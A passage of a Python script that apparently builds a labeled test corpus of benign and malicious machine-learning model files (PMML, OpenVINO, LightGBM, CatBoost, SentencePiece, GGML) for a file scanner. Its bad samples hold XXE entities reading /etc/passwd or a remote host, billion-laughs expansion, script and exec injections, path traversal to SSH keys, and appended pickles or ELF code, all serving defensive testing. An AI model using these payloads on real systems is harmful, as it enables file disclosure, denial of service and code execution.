    ok("p_ok_define.pmml", good.replace("<TreeModel", '<TransformationDictionary><DefineFunction name="my.own" '
                                        'optype="continuous"><ParameterField name="v"/><FieldRef field="v"/>'
                                        "</DefineFunction></TransformationDictionary><TreeModel", 1).replace(
        'function="ln"', 'function="my.own"'), "a function of its own")
    ok("p_ok_schema.pmml", pmml_text(attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                     'xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd"'),
       "a schema's address")
    ok("p_ok_comment.pmml", pmml_text(head="<!-- made by system; eval later -->\n"), "a comment")
    bad("p_entity.pmml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x "text">]>'), "an entity", "xml.entity")
    bad("p_xxe.pmml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "an external entity",
        "xml.external")
    bad("p_xxe_http.xml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://203.0.113.9/x">]>'),
        "an external entity at an address", "xml.external")
    bad("p_parameter.pmml", pmml_text("", '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd"> %x;]>'),
        "a parameter entity", "xml.external")
    bad("p_dtd.pmml", pmml_text("", '<!DOCTYPE PMML SYSTEM "http://203.0.113.9/x.dtd">'), "a document type elsewhere",
        "xml.external")
    laughs = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 12))
    bad("p_laughs.pmml", pmml_text("&l11;", '<!DOCTYPE PMML [<!ENTITY l0 "lol">%s]>' % laughs), "a billion laughs",
        "xml.expansion")
    bad("p_laughs_attribute.pmml", pmml_text(attributes=' x="&l11;"', head='<!DOCTYPE PMML [<!ENTITY l0 "lol">%s]>' % laughs),
        "a billion laughs in an attribute", "xml.expansion")
    bad("p_utf16_xxe.pmml", b"\xff\xfe" + pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
        "UTF-8", "UTF-16").encode("utf-16-le"), "an external entity in UTF-16", "xml.external")
    bad("p_doctype.pmml", pmml_text(head="<!DOCTYPE PMML>"), "a document type", "xml.doctype", "review", "suspicious")
    bad("p_xinclude.pmml", pmml_text('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "XInclude", "xml.include")
    bad("p_script.pmml", pmml_text("<script>alert(1)</script>"), "a script", "xml.script")
    bad("p_javascript.pmml", pmml_text('<Extension name="link" value="javascript:alert(1)"/>'), "a javascript address",
        "data.code-in-text")
    bad("p_extension.pmml", pmml_text('<Extension name="script" value="os"><![CDATA[import os\nos.system("echo canary")]]></Extension>'),
        "program text in an extension", "pmml.extension-code,data.code-in-text")
    bad("p_extension_eval.pmml", pmml_text('<Extension>eval(x)</Extension>'), "eval in an extension", "pmml.extension-code")
    bad("p_extension_java.pmml", pmml_text('<Extension value="Runtime.getRuntime().exec(x)"/>'), "Java in an extension",
        "pmml.extension-code")
    bad("p_runtime.pmml", pmml_text(apply % "java.lang.Runtime"), "a class of the runtime as a function", "pmml.runtime-class")
    bad("p_class.pmml", pmml_text(apply % "com.example.Udf"), "a class as a function", "pmml.java-class", "review", "suspicious")
    bad("p_function.pmml", pmml_text(apply % "frobnicate"), "a function that is defined nowhere", "pmml.unknown-function",
        "review", "suspicious")
    bad("p_href.pmml", pmml_text('<Extension href="http://203.0.113.9/x"/>'), "an address", "pmml.external-reference", "review",
        "suspicious")
    bad("p_stylesheet.pmml", pmml_text(head='<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?>\n'),
        "a style sheet", "xml.instruction", "review", "suspicious")
    bad("p_php.pmml", pmml_text(head="<?php system('echo canary'); ?>\n"), "PHP", "xml.instruction", "review", "suspicious")
    bad("p_deep.pmml", pmml_text("<a>" * 5000 + "</a>" * 5000), "5,000 deep", "xml.depth")
    bad("p_broken.pmml", pmml_text("<a></b>"), "tags that do not match", "file.malformed")
    bad("p_cut.pmml", good[:len(good) // 2], "cut off", "file.truncated,file.malformed", "review", "suspicious")
    bad("p_trailing.pmml", good.encode() + PICKLE, "a pickle behind the document", "xml.trailing-data,data.hidden-payload")
    bad("p_root.pmml", pmml_text(root="Other"), "another root", "pmml.bad-root")
    bad("p_is_pickle.pmml", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")


# --- OpenVINO ---
def ir(layers, edges="", head="", extra="", version="11"):
    return ('<?xml version="1.0"?>\n%s<net name="model" version="%s"><layers>%s</layers><edges>%s</edges>%s<rt_info>'
            '<MO_version value="2022.3.0"/><conversion_parameters><input_model value="DIR/model.onnx"/>'
            "</conversion_parameters></rt_info></net>" % (head, version, layers, edges, extra))


def const(number, offset, size, shape="4,2", kind="f32", name="w"):
    return ('<layer id="%s" name="%s" type="Const" version="opset1"><data element_type="%s" shape="%s" offset="%s" '
            'size="%s"/><output><port id="0" precision="FP32"><dim>4</dim><dim>2</dim></port></output></layer>'
            % (number, name, kind, shape, offset, size))


def openvino():
    head = '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/></layer>'
    tail = ('<layer id="2" name="mm" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="false"/></layer>'
            '<layer id="3" name="y" type="Result" version="opset1"/>')
    edges = "".join('<edge from-layer="%s" from-port="0" to-layer="%s" to-port="0"/>' % pair
                    for pair in ((0, 2), (1, 2), (2, 3)))

    def both(name, text, weights=bytes(32)):
        if weights is not None:
            with open(os.path.join(out_dir, "ov_%s.bin" % name), "wb") as f:
                f.write(weights)
        return "ov_%s.xml" % name, text

    def good(name, text, trick, weights=bytes(32)):
        ok(*both(name, text, weights), trick)

    def wrong(name, text, trick, rules, verdict="dangerous", label="malicious", weights=bytes(32)):
        bad(*both(name, text, weights), trick, rules, verdict, label)

    plain = ir(head + const(1, 0, 32) + tail, edges)
    good("ok", plain, "honest")
    ok("ov_ok.bin", struct.pack("<8f", *(0.5 / (i + 1) for i in range(8))), "constants of a graph beside them")
    bad("ov_alone.bin", struct.pack("<8f", *(0.5 / (i + 1) for i in range(8))), "numbers that no graph names",
        "file.not-recognised", "review", "suspicious")
    wrong("encoding", '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE net+AD4-' + plain, "an encoding that nobody reads",
          "file.malformed")
    good("ok_shared", ir(head + const(1, 0, 32) + const(9, 0, 32) + tail, edges), "constants that share their bytes")
    good("ok_types", ir(head + const(1, 0, 32) + const(4, 0, 4, "8", "i4") + const(5, 0, 1, "3", "u1") + const(6, 0, 8, "", "i64") +
                        const(7, 0, 0, "0,3", "f16") + const(8, 0, 7, "", "string") + tail, edges), "types and shapes")
    body = ('<layer id="4" name="loop" type="Loop" version="opset5"><body><layers>%s</layers><edges>%s</edges></body></layer>'
            % (head + const(1, 0, 32) + tail, edges))
    good("ok_body", ir(head + const(1, 0, 32) + tail + body, edges), "a body with ids of its own")
    good("ok_old", ir('<layer id="0" name="c" precision="FP32" type="Convolution"><blobs><weights offset="0" size="16"/><biases '
                      'offset="16" size="16"/></blobs></layer>', version="7"), "a release before 2020")
    wrong("range", ir(head + const(1, 1 << 20, 32) + tail, edges), "offset beyond the data file", "openvino.range")
    wrong("range_size", ir(head + const(1, 0, 4096, "1024") + tail, edges), "size beyond the data file", "openvino.range")
    wrong("overflow", ir(head + const(1, 2 ** 64 - 8, 32) + tail, edges), "offset and size wrap", "openvino.bad-number")
    wrong("negative", ir(head + const(1, -64, 32) + tail, edges), "negative offset", "openvino.bad-number")
    wrong("text", ir(head + const(1, "0x20", 32) + tail, edges), "offset is no number", "openvino.bad-number")
    wrong("shape", ir(head + const(1, 0, 16) + tail, edges), "shape larger than its bytes", "openvino.size-mismatch")
    wrong("shape_huge", ir(head + const(1, 0, 32, "4294967296,4294967296,16") + tail, edges), "shape beyond 64 bits", "openvino.bad-number")
    wrong("missing", plain, "no data file", "openvino.weights-missing", "review", "suspicious", None)
    wrong("edge", ir(head + const(1, 0, 32) + tail, edges + '<edge from-layer="77" from-port="0" to-layer="3" to-port="0"/>'),
          "an edge from nowhere", "openvino.bad-edge")
    wrong("duplicate", ir(head + const(1, 0, 32) + tail + const(1, 0, 32), edges), "two layers of one id", "openvino.duplicate-layer")
    wrong("empty", ir(""), "no layers", "openvino.no-layers")
    custom = '<layer id="5" name="c" type="%s" version="%s"/>'
    wrong("extension", ir(head + const(1, 0, 32) + tail + custom % ("Evil", "extension"), edges), "a custom operation",
          "openvino.custom-layer", "review", "suspicious")
    wrong("custom", ir(head + const(1, 0, 32) + tail + custom % ("CustomOp", "opset1"), edges), "a custom operation by type",
          "openvino.custom-layer", "review", "suspicious")
    wrong("library", ir(head + const(1, 0, 32) + tail, edges, extra='<custom_extensions path="./libevil.so"/>'),
          "an extension library", "openvino.library")
    wrong("library_layer", ir(head + const(1, 0, 32) + tail + '<layer id="6" name="p" type="Evil" version="opset1"><data '
                              'library="evil.dll"/></layer>', edges), "a library in a layer", "openvino.library")
    wrong("xxe", ir(head + "&x;", edges, '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "an external entity",
          "xml.external")
    wrong("laughs", ir(head, edges, '<!DOCTYPE net [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'),
          "a billion laughs", "xml.expansion")
    wrong("code", ir(head.replace('"x"', '"%s"' % CODE.replace("'", "&apos;")) + tail, edges), "program text as a name",
          "data.code-in-text")
    wrong("trailing", plain + "more", "bytes behind the document", "xml.trailing-data")


# --- LightGBM ---
def lgb_tree(number, **change):
    """Two splits and a split by categories: four leaves."""
    lines = {"num_leaves": "4", "num_cat": "1", "split_feature": "0 2 3", "split_gain": "1 0.5 0.25",
             "threshold": "0.5 0 1.5", "decision_type": "2 1 2", "left_child": "1 -1 -3", "right_child": "2 -2 -4",
             "cat_boundaries": "0 1", "cat_threshold": "5", "leaf_value": "0.1 -0.2 0.3 0.4", "leaf_weight": "1 1 1 1",
             "leaf_count": "5 5 5 5", "internal_value": "0 0 0", "internal_weight": "4 2 2",
             "internal_count": "20 10 10", "is_linear": "0", "shrinkage": "0.1"}
    lines.update(change)
    return "Tree=%d\n%s\n\n\n" % (number, "\n".join("%s=%s" % item for item in lines.items() if item[1] is not None))


def lgb_model(trees=None, sizes=None, head=None, parameters="", tail="pandas_categorical:null\n", end="end of trees\n\n"):
    trees = [lgb_tree(0), lgb_tree(1)] if trees is None else trees
    values = {"version": "v4", "num_class": "1", "num_tree_per_iteration": "1", "label_index": "0", "max_feature_idx": "3",
              "objective": "regression", "feature_names": "a b c d", "feature_infos": "[0:1] none 0:1:2 [-1:1]"}
    values.update(head or {})
    if sizes is None:
        sizes = " ".join(str(len(t)) for t in trees)
    return ("tree\n%s\ntree_sizes=%s\n\n%s%sfeature_importances:\na=2\nc=1\n\nparameters:\n[boosting: gbdt]\n"
            "[objective: regression]\n[data: ]\n[valid: ]\n[output_model: LightGBM_model.txt]\n[machine_list_filename: ]\n"
            "%s\nend of parameters\n\n%s"
            % ("\n".join("%s=%s" % item for item in values.items() if item[1] is not None), sizes, "".join(trees), end,
               parameters, tail))


def lightgbm():
    ok("l_ok.txt", lgb_model(), "honest", "lightgbm")
    ok("l_ok.lgb", lgb_model([lgb_tree(i) for i in range(60)]), "honest, many trees", "lightgbm")
    ok("l_ok_leaf.txt", lgb_model([lgb_tree(0), "Tree=1\nnum_leaves=1\nnum_cat=0\nsplit_feature=\nsplit_gain=\nthreshold=\n"
                                   "decision_type=\nleft_child=\nright_child=\nleaf_value=0.5\nleaf_weight=\nleaf_count=\n"
                                   "internal_value=\ninternal_weight=\ninternal_count=\nis_linear=0\nshrinkage=1\n\n\n"]),
       "a tree of one leaf", "lightgbm")
    ok("l_ok_pandas.txt", lgb_model(tail='pandas_categorical:[["a", "b"], [1, 2, 3]]\n'), "categories of pandas", "lightgbm")
    ok("l_ok_old.txt", lgb_model(head={"version": "v2"}).replace("tree_sizes=", "tree_old="), "a version without sizes", "lightgbm")
    ok("l_ok_path.txt", lgb_model(parameters="[data: train.csv]\n[valid: valid/a.csv]\n"), "relative paths", "lightgbm")
    ok("l_ok_home.txt", lgb_model(parameters="[data: /home/me/train.csv]\n"), "training data at home", "lightgbm")
    ok("l_ok_words.txt", lgb_model(head={"feature_names": "system eval import_os exec"}), "words that only look like code",
       "lightgbm")

    def change(name, trick, rules, **lines):
        trees = [lgb_tree(0), lgb_tree(1, **lines)]
        bad("l_%s.txt" % name, lgb_model(trees), trick, rules, loader="lightgbm")

    change("left", "left child beyond the tree", "lightgbm.bad-tree", left_child="1 900000 -3")
    change("right", "right child beyond the leaves", "lightgbm.bad-tree", right_child="2 -2 -40")
    change("circle", "a child before its parent", "lightgbm.bad-tree", left_child="1 -1 0")
    change("self", "a node is its own child", "lightgbm.bad-tree", left_child="0 -1 -3")
    change("edge", "a child is the number of inner nodes", "lightgbm.bad-tree", right_child="3 -2 -4")
    change("text", "a child is no number", "lightgbm.bad-tree", left_child="1 x -3")
    change("split", "split feature beyond the features", "lightgbm.bad-split", split_feature="0 2 70000")
    change("split_negative", "negative split feature", "lightgbm.bad-split", split_feature="0 2 -5")
    change("category", "a set of categories that does not exist", "lightgbm.bad-category", threshold="0.5 9 1.5")
    change("boundaries", "sets of categories beyond their list", "lightgbm.bad-category", cat_boundaries="0 900")
    change("num_cat", "more sets than boundaries", "lightgbm.bad-category", num_cat="7")
    change("leaves", "more leaves than values", "lightgbm.list-length", num_leaves="400")
    change("leaves_huge", "2^31-1 leaves", "lightgbm.list-length,lightgbm.bad-count", num_leaves="2147483647")
    change("leaves_negative", "negative number of leaves", "lightgbm.bad-count", num_leaves="-3")
    change("no_leaves", "no number of leaves", "lightgbm.bad-count", num_leaves=None)
    change("short", "a list is too short", "lightgbm.list-length", leaf_value="0.1 0.2")
    change("no_children", "no children", "lightgbm.list-length", left_child=None)
    bad("l_class.txt", lgb_model(head={"num_class": "-1"}), "negative number of classes", "lightgbm.bad-count", loader="lightgbm")
    bad("l_features.txt", lgb_model(head={"max_feature_idx": "99999999999999"}), "number of features beyond all bounds",
        "lightgbm.bad-count", loader="lightgbm")
    bad("l_sizes.txt", lgb_model(sizes="10 10"), "sizes that lead into the middle of a tree", "lightgbm.tree-sizes", loader="lightgbm")
    bad("l_sizes_more.txt", lgb_model(sizes="%d %d 999999" % ((len(lgb_tree(0)),) * 2)), "more sizes than trees",
        "lightgbm.tree-sizes", loader="lightgbm")
    bad("l_hidden.txt", lgb_model([lgb_tree(0), lgb_tree(1), lgb_tree(7)], " ".join(
        [str(len(lgb_tree(0))), str(len(lgb_tree(1)) + len(lgb_tree(7)))])), "a tree that one loader steps over",
        "lightgbm.tree-sizes", loader="lightgbm")
    for name, line in (("data", "[data: ../../../../etc/passwd]"), ("machine", "[machine_list_filename: /etc/passwd]"),
                       ("machine_file", "[machine_list_file: file:///etc/hosts]"),
                       ("output", "[output_model: ../../.ssh/authorized_keys]"), ("input", "[input_model: http://203.0.113.9/m]"),
                       ("forced", "[forcedsplits_filename: /tmp/x.json]"), ("home", "[data: ~/.ssh/id_rsa]")):
        bad("l_parameter_%s.txt" % name, lgb_model(parameters=line + "\n"), "a path among the parameters",
            "lightgbm.file-parameter", loader="lightgbm")
    bad("l_code.txt", lgb_model(head={"feature_names": CODE + " b c d"}), "program text as a feature's name", "data.code-in-text",
        loader="lightgbm")
    bad("l_code_parameter.txt", lgb_model(parameters="[objective: %s]\n" % CODE), "program text as a parameter",
        "data.code-in-text", loader="lightgbm")
    bad("l_pandas.txt", lgb_model(tail="pandas_categorical:{x}\n"), "categories that are no JSON", "lightgbm.bad-categorical",
        loader="lightgbm")
    whole = lgb_model()
    for name, word in (("importances", "a=2"), ("heading", "feature_import"), ("parameters", "[objective"),
                       ("end", "end of para")):
        bad("l_cut_%s.txt" % name, whole[:whole.rindex(word) + len(word) - 1], "cut off behind the trees", "", "review",
            "suspicious", loader="lightgbm")
    bad("l_cut.txt", lgb_model()[:500], "cut off", "lightgbm.missing-part,lightgbm.list-length", loader="lightgbm")
    bad("l_nul.txt", lgb_model().replace("feature_importances", "\0feature_importances"), "a NUL", "file.malformed", loader="lightgbm")


# --- CatBoost ---
class Flat:
    """A FlatBuffers buffer, written from its end as the reference does, without sharing."""

    def build(self, root):
        self.out = bytearray(4)
        at = self.put(root)
        self.out[0:4] = struct.pack("<I", at)
        return bytes(self.out)

    def align(self, n):
        while len(self.out) % n:
            self.out.append(0)

    def refer(self, at, value):
        where = self.put(value)
        self.out[at:at + 4] = struct.pack("<I", where - at)

    def put(self, value):
        """value: ("table", [field or None]), ("rows", [value]), ("numbers", format, [n]), text"""
        if isinstance(value, str):
            self.align(4)
            at = len(self.out)
            self.out += struct.pack("<I", len(value.encode())) + value.encode() + b"\0"
            return at
        if value[0] == "numbers":
            size = struct.calcsize(value[1])
            self.align(4)
            while (len(self.out) + 4) % size:
                self.out += b"\0" * 4
            at = len(self.out)
            self.out += struct.pack("<I", len(value[2])) + b"".join(struct.pack("<" + value[1], n) for n in value[2])
            return at
        if value[0] == "rows":
            self.align(4)
            at = len(self.out)
            self.out += struct.pack("<I", len(value[1])) + b"\0" * 4 * len(value[1])
            for i, row in enumerate(value[1]):
                self.refer(at + 4 + 4 * i, row)
            return at
        fields = value[1]
        self.align(4)
        vtable = len(self.out)
        self.out += struct.pack("<HH", 4 + 2 * len(fields), 4 + 4 * len(fields))
        self.out += b"".join(struct.pack("<H", 0 if f is None else 4 + 4 * i) for i, f in enumerate(fields))
        self.align(4)
        at = len(self.out)
        self.out += struct.pack("<i", at - vtable) + b"\0" * 4 * len(fields)
        for i, f in enumerate(fields):
            if isinstance(f, int):
                self.out[at + 4 + 4 * i:at + 8 + 4 * i] = struct.pack("<I", f & 0xffffffff)
            elif f is not None:
                self.refer(at + 4 + 4 * i, f)
        return at


def cbm(splits=(0, 2, 1, 3), sizes=(2, 2), starts=(0, 2), leaves=8, dimension=1, info=(("model_guid", "x"),), parts=(),
        steps=None, node_leaves=None, version="FlabuffersModel_v1"):
    floats = ("rows", [("table", [0, i, i, ("numbers", "f", [0.25, 0.75])]) for i in range(2)])
    trees = ("table", [dimension, ("numbers", "i", splits), ("numbers", "i", sizes), ("numbers", "i", starts), None, floats, None,
                       None, ("numbers", "d", [0.5] * leaves), None,
                       None if steps is None else ("numbers", "I", [left | right << 16 for left, right in steps]),
                       None if node_leaves is None else ("numbers", "I", node_leaves)])
    core = Flat().build(("table", [version, trees, ("rows", [("table", [k, v]) for k, v in info]),
                                   ("rows", list(parts)) if parts else None]))
    return b"CBM1" + struct.pack("<I", len(core)) + core


def catboost():
    ok("c_ok.cbm", cbm(), "honest", "catboost")
    ok("c_ok_classes.cbm", cbm(leaves=24, dimension=3), "three values in a leaf", "catboost")
    ok("c_ok_info.cbm", cbm(info=[("params", json.dumps({"system_options": {"train_dir": "catboost_info"}})),
                                  ("catboost_version_info", "Svn info: import os, exec")]), "what is told of the model", "catboost")
    ok("c_ok_parts.cbm", cbm(parts=["static_provider_v1"]) + bytes(100), "a part behind the core", "catboost")
    empty = Flat().build(("table", ["FlabuffersModel_v1", None, ("rows", [("table", ["model_guid", "x"])])]))
    ok("c_ok_no_trees.cbm", b"CBM1" + struct.pack("<I", len(empty)) + empty, "a core without trees", "catboost")
    ok("c_ok_steps.cbm", cbm(splits=(0, 1, 0), sizes=(3,), starts=(0,), leaves=2, steps=[(1, 2), (0, 0), (0, 0)],
                             node_leaves=[0xffffffff, 0, 1]), "a tree that is not symmetric", "catboost")

    def wrong(name, trick, rules, data, verdict="dangerous", label="malicious"):
        bad("c_%s.cbm" % name, data, trick, rules, verdict, label, "catboost")

    wrong("split", "a split that does not exist", "catboost.bad-split", cbm(splits=(0, 2, 70000, 3)))
    wrong("split_negative", "a negative split", "catboost.bad-split", cbm(splits=(0, -2, 1, 3)))
    wrong("size", "a tree of more splits than there are", "catboost.bad-tree", cbm(sizes=(2, 9)))
    wrong("size_deep", "a tree 40 deep", "catboost.bad-tree", cbm(sizes=(2, 40)))
    wrong("size_negative", "a tree of negative size", "catboost.bad-tree", cbm(sizes=(2, -2)))
    wrong("start", "a tree that starts elsewhere", "catboost.bad-tree", cbm(starts=(0, 4096)))
    wrong("leaves", "too few values of leaves", "catboost.bad-tree", cbm(leaves=3))
    wrong("dimension", "more values in a leaf than there are", "catboost.bad-tree", cbm(dimension=1000))
    wrong("dimension_zero", "leaves without values", "catboost.bad-tree", cbm(dimension=0))
    wrong("step", "a subtree outside the tree", "catboost.bad-tree",
          cbm(splits=(0, 1, 0), sizes=(3,), starts=(0,), leaves=2, steps=[(1, 60000), (0, 0), (0, 0)], node_leaves=[0xffffffff, 0, 1]))
    wrong("step_leaf", "a leaf outside the values", "catboost.bad-tree",
          cbm(splits=(0, 1, 0), sizes=(3,), starts=(0,), leaves=2, steps=[(1, 2), (0, 0), (0, 0)], node_leaves=[0xffffffff, 0, 9000]))
    wrong("code", "program text among what is told", "data.code-in-text", cbm(info=[("params", CODE)]))
    wrong("version", "another version", "catboost.bad-core", cbm(version="EvilModel_v9"))
    wrong("version_next", "a version that no loader knows", "catboost.bad-core", cbm(version="FlabuffersModel_v2"))
    wrong("trailing", "a pickle behind the model", "catboost.trailing-data,data.hidden-payload", cbm() + PICKLE)
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as z:
        z.writestr("data.pkl", PICKLE)
    wrong("zip", "a zip behind the parts", "catboost.polyglot,pickle.call-on-load", cbm(parts=["static_provider_v1"]) + raw.getvalue())
    whole = cbm()
    wrong("core_size", "a core larger than the file", "catboost.bad-core", whole[:4] + struct.pack("<I", 1 << 30) + whole[8:])
    wrong("root", "a root outside the core", "catboost.bad-core", whole[:8] + struct.pack("<I", 1 << 30) + whole[12:])
    wrong("cut", "cut off", "catboost.bad-core,file.truncated", whole[:100], "review", "suspicious")
    bad("c_is_pickle.cbm", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")


# --- vocabularies, and GGML ---
def varint(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def message(number, data):
    return varint(number << 3 | 2) + varint(len(data)) + data


def vocabulary(pieces):
    out = b"".join(message(1, message(1, p.encode()) + b"\x15" + struct.pack("<f", -float(i)) +
                           (b"\x18\x02" if i == 0 else b"")) for i, p in enumerate(pieces))
    trainer = message(1, b"data/corpus.txt") + message(2, b"spm") + b"\x18\x01\x20\x80\x7d" + b"\x50\x01"
    return out + message(2, trainer) + message(3, message(1, b"nmt_nfkc") + message(2, bytes(range(200))) + b"\x18\x01")


def vocabularies():
    words = ["<unk>", "<s>", "</s>"] + ["\u2581w%d" % i for i in range(400)] + ["system", "eval", "\u4e2d", "\U0001f600"]
    ok("sp_ok.model", vocabulary(words), "honest", "sentencepiece")
    ok("sp_ok_named/tokenizer.model", vocabulary(words[:8]), "honest, small", "sentencepiece")
    bad("sp_code.model", vocabulary(words + [CODE]), "program text as a piece", "data.code-in-text", loader="sentencepiece")
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as z:
        z.writestr("data.pkl", PICKLE)
    bad("sp_zip.model", vocabulary(words) + raw.getvalue(), "a zip behind the vocabulary",
        "sentencepiece.malformed,sentencepiece.polyglot", loader="sentencepiece")
    bad("sp_cut.model", vocabulary(words)[:-50], "cut off", "file.truncated,sentencepiece.malformed", "review", "suspicious",
        "sentencepiece")
    bad("ggml_old.bin", b"tjgg" + struct.pack("<7I", 3, 32000, 4096, 256, 32, 32, 128) + bytes(4000), "a model before GGUF",
        "file.unsupported", "review", "suspicious", "llama.cpp")
    bad("ggml_elf.bin", b"tjgg" + struct.pack("<7I", 3, 32000, 4096, 256, 32, 32, 128) + bytes(4000) + ELF,
        "a program in a model before GGUF", "opaque.native-code", loader="llama.cpp")


# What R was seen to run when it reads these. The other harm is not a command, or waits for a call.
RUN_BY_R = ("r_promise_plain.rds", "r_promise_gzip.rds", "r_promise_no_env.rds")
NOT_TRIED = {
    "R": "R runs it when somebody uses the object, or refuses it",
    "xgboost": "a broken rule runs no command",
    "msgpack": "reading runs nothing, what unpickles the value does",
    "msgpack_numpy": "not packaged",
    "by specification": "no loader of it is packaged",
}


def loader_of(name, loader):
    """In the words of README.md."""
    if loader == "R" and name in RUN_BY_R:
        return "readRDS"
    return f"by specification: {NOT_TRIED.get(loader, loader + ' is not packaged')}"


def main():
    global out_dir
    out_dir = sys.argv[1]
    for make in (xgboost, ubjson, msgpack, lightgbm, catboost, rdata, pmml, openvino, vocabularies):
        make()
    with open(os.path.join(out_dir, "manifest.tsv"), "w", encoding="utf-8") as f:
        for row in rows:
            f.write("\t".join([*row[:3], loader_of(row[0], row[3]), *row[4:]]) + "\n")


if __name__ == "__main__":
    main()
